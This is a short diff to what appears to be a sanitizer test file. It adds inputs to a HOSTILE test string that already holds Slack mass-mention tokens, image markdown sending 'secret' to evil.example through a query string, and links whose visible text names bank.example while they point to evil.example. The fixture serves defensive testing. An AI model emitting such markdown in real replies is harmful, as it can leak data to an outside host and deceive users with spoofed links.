@@ -13,6 +13,7 @@ WORKING = re.compile(
 )
 HOSTILE = (
     "Look <!channel> and <!subteam^S1|@ops> @here <@U2|boss> ![chart](https://evil.example/?q=secret) "
+    "!![a](https://evil.example/?q=a) Look!<https://evil.example/?q=b> "
     "[https://bank.example](https://evil.example/login) <https://evil.example|https://bank.example> so be it."
 )
 
